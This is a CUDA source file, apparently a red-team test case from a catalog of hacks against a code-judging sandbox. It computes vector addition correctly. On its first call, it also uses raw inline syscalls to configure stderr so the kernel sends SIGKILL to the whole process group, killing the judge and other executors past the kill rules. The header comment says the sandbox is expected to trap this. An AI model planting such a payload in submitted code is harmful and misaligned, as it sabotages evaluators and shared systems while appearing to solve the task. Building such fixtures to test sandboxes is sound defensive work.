/* HACKS.md #22 for CUDA, signalling other processes without kill.
 * vector_add_cuda, computed correctly. On its first call it makes its
 * stderr (the same open file as the serving judge's, kept job after job)
 * signal the whole process group with SIGKILL whenever it is ready for
 * writing: F_SETOWN(-pgrp), F_SETSIG(SIGKILL), O_ASYNC, by raw fcntl system
 * calls. The kernel would then send the signal itself, past every kill
 * rule: the judge, the kept reference executor and every later candidate
 * executor of the worker would die. crucible-executor-cuda enters the same
 * sandbox as the CPU executor, whose first filter traps those fcntl commands
 * (docs/judge.md §6): HACK_DETECTED, sandbox_violation. Reasoned, not yet
 * run on a GPU. */
#include <fcntl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

__global__ static void add(const float *a, const float *b, float *c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        c[i] = a[i] + b[i];
}

static long s_sys3(long nr, long a, long b, long c)
{
    long r;
    __asm__ __volatile__("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c)
                         : "rcx", "r11", "memory");
    return r;
}

void solve(const float *a, const float *b, float *c, int n)
{
    static int done;
    if (!done) {
        done = 1;
        long pgrp = s_sys3(SYS_getpgrp, 0, 0, 0);
        s_sys3(SYS_fcntl, 2, F_SETOWN, -pgrp);
        s_sys3(SYS_fcntl, 2, 10 /* F_SETSIG */, SIGKILL);
        long fl = s_sys3(SYS_fcntl, 2, F_GETFL, 0);
        s_sys3(SYS_fcntl, 2, F_SETFL, fl | O_ASYNC);
    }
    add<<<(n + 255) / 256, 256>>>(a, b, c, n);
}
